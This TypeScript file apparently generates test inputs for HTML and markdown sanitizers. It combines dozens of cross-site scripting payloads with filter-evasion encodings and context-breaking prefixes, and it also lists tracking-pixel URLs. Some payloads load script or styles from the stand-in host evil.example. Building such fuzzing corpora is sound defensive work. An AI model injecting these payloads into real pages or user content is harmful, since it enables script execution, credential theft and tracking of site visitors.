/** Ways to get script into a page by text. Each carries a mark by which a page that fell for it would be known. */
const SCRIPT = "globalThis.fallen=1";

const FORMS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `"><script>${SCRIPT}</script>`,
  `'><img src=x onerror=${SCRIPT}>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img/src=x/onerror=${SCRIPT}>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<object data="data:text/html,<script>${SCRIPT}</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<form action="https://evil.example/"><button>x</button></form>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}>`,
  `<math><mtext></mtext><mglyph><style><img src onerror=${SCRIPT}></style></mglyph></math>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `[click](javascript:${SCRIPT})`,
  `[click](data:text/html,<script>${SCRIPT}</script>)`,
  `![picture](https://evil.example/pixel.gif)`,
  `![x](x"onerror="${SCRIPT})`,
  `javascript:${SCRIPT}`,
  `https://evil.example/"onmouseover="${SCRIPT}`,
  `https://evil.example/#<img src=x onerror=${SCRIPT}>`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `\${${SCRIPT}}`,
  `**<b onclick=${SCRIPT}>bold</b>**`,
  `> <img src=x onerror=${SCRIPT}>`,
  `- <svg onload=${SCRIPT}>`,
  `\`\`\`html\n<script>${SCRIPT}</script>\n\`\`\``,
];

const DISGUISES: readonly ((form: string) => string)[] = [
  (form) => form,
  (form) => form.toUpperCase(),
  (form) => form.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (form) => form.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (form) => form.replaceAll("<", "\u003c").replaceAll("s", "\u017f"),
  (form) => form.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (form) => form.replaceAll(" ", "\t"),
  (form) => form.replaceAll(" ", "/"),
  (form) => form.replaceAll("script", "scr\u0000ipt"),
  (form) => `\u202e${form}\u2066`,
];
const PLACES: readonly ((form: string) => string)[] = [
  (form) => form,
  (form) => `"'>${form}`,
  (form) => `</textarea>${form}`,
  (form) => `</title>${form}`,
  (form) => `]]>${form}`,
  (form) => `--> ${form}`,
  (form) => `\`${form}\``,
  (form) => `**${form}**`,
  (form) => `> ${form}`,
  (form) => `1. ${form}`,
  (form) => `https://evil.example/?q=${form}`,
  (form) => `mailto:${form}`,
];

/** `count` of them, each form in some disguise and at some place; 5,160 there are. */
export function scriptsAsText(count: number): readonly string[] {
  const all = PLACES.flatMap((place) => DISGUISES.flatMap((disguise) => FORMS.map((form) => place(disguise(form)))));
  const step = Math.max(1, Math.floor(all.length / count));
  return all.filter((_, at) => at % step === 0).slice(0, count);
}

/** Addresses that some client somewhere would have fetched unasked. */
export function addresses(): readonly string[] {
  const hosts = ["evil.example", "127.0.0.1:9", "[::1]:9", "xn--80ak6aa92e.com", "evil.example."];
  const forms = [
    "https://",
    "http://",
    "HTTPS://",
    "//",
    "ftp://",
    "https://user:password@",
    "view-source:https://",
    "https:/\\",
    "www.",
    "see https://",
  ];
  return forms.flatMap((form) => hosts.map((host) => `${form}${host}/picture.png?tracked=1`));
}
